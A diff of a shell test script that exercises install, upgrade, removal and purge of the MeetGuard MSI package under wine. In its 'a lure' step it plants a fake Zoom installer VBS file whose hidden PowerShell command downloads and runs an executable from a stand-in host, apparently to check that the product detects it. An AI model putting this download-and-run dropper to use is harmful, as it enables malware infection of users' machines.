@@ -4,7 +4,7 @@
 # configuration, removing leaves them, purging does not. What is typed and seen
 # is kept in build/test-packages/msi.txt.
 #
-# MSI=file.msi takes that package, else the one in dist/packages. What wine cannot
+# DIST is the folder that `make packages` filled, dist if it is not set. What wine cannot
 # show: the rights on folders are not Windows' own there, failure actions are
 # taken and not carried out, and no source of launches but the list of processes
 # works.
@@ -12,7 +12,8 @@ set -euo pipefail
 cd "$(dirname "$0")/../.."
 wine=/usr/lib/wine/wine64
 [ -x "$wine" ] || { echo "20-msi.sh: needs wine64 (apt-get install wine64)" >&2; exit 1; }
-msi=$(realpath "${MSI:-$(ls dist/packages/*.msi)}")
+dist=$(realpath "${DIST:-dist}")
+msi=$(ls "$dist"/packages/*.msi)
 work=$PWD/build/test-packages log=$PWD/build/test-packages/msi.txt
 export WINEPREFIX=$work/wine WINEDEBUG=-all
 programs=$WINEPREFIX/drive_c/Program\ Files/MeetGuard data=$WINEPREFIX/drive_c/ProgramData/MeetGuard
@@ -42,8 +43,23 @@ gone() { [ ! -e "$programs/meetguard.exe" ]; }
 finish() { "${wine%/*}/wineserver64" -k 2>/dev/null || true; }
 trap finish EXIT
 
+# the same program as a later version
+next=$work/next
+rm -rf "$next"
+mkdir -p "$next"
+cp -r "$dist/windows-amd64" "$dist"/LICENSE* "$next/"
+sed 's/^VERSION=.*/VERSION=99.0.0/' "$dist/build-info" >"$next/build-info"
+scripts/packages.sh "$next" msi 2>/dev/null
+newer=$next/packages/meetguard-99.0.0-amd64.msi
+
 rm -rf "$WINEPREFIX"
 "$wine" wineboot -i >/dev/null 2>&1
+# wine makes the folders of a user links to those of the account outside
+for folder in Downloads Desktop; do
+  rm "$WINEPREFIX/drive_c/users/$(id -un)/$folder"
+  mkdir "$WINEPREFIX/drive_c/users/$(id -un)/$folder"
+done
+downloads=$WINEPREFIX/drive_c/users/$(id -un)/Downloads
 # Go asks a library of Windows 10 for random numbers that wine 8 does not have.
 # This one stands in for it, in this test alone.
 cat >"$work/bcp.c" <<'C'
@@ -70,8 +86,6 @@ for pid in $(pgrep -f 'MeetGuard.meetguard.exe'); do
 done
 
 say "a lure"
-downloads=$(find "$WINEPREFIX/drive_c/users" -maxdepth 2 -name Downloads | head -1)
-[ -n "$downloads" ] || fail "wine made no Downloads"
 printf 'Set s = CreateObject("WScript.Shell")\r\n%s s.Run "powershell -w hidden -c iwr https://zoom-sdk-update.invalid/a -outfile a.exe; .\\a.exe", 0\r\n' "' Zoom SDK Update
 " >"$downloads/ZoomInstallerFull.vbs.part"
 mv "$downloads/ZoomInstallerFull.vbs.part" "$downloads/ZoomInstallerFull.vbs"
@@ -81,14 +95,14 @@ typed 'C:\Program Files\MeetGuard\meetguard.exe' alerts list
 say "upgrade keeps state and configuration"
 echo '# of the administrator' >>"$data/config.yaml"
 had=$(wc -l <"$data/alerts.jsonl")
-typed msiexec /i "Z:${msi//\//\\}" /qn REINSTALL=ALL REINSTALLMODE=vamus
+typed msiexec /i "Z:${newer//\//\\}" /qn
 until_ok 60 "the service is RUNNING" running
 grep -q 'of the administrator' "$data/config.yaml" || fail "the configuration was replaced"
 [ "$(wc -l <"$data/alerts.jsonl")" -ge "$had" ] || fail "alerts were lost"
 
 say "remove"
-typed msiexec /x "Z:${msi//\//\\}" /qn
-until_ok 30 "the program is gone" gone
+typed msiexec /x "Z:${newer//\//\\}" /qn
+until_ok 60 "the program is gone" gone
 if "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE'; then fail "the service is still there"; fi
 for kept in alerts.jsonl config.yaml; do [ -s "$data/$kept" ] || fail "removing took $kept"; done
 
@@ -96,7 +110,7 @@ say "install and purge"
 typed msiexec /i "Z:${msi//\//\\}" /qn
 until_ok 60 "the service is RUNNING" running
 typed msiexec /x "Z:${msi//\//\\}" /qn PURGE=1
-until_ok 30 "the program is gone" gone
+until_ok 60 "the program is gone" gone
 [ ! -e "$data" ] || fail "purging left $data"
 echo "nothing is left" | tee -a "$log"
 echo "20-msi.sh: passed; transcript in $log"
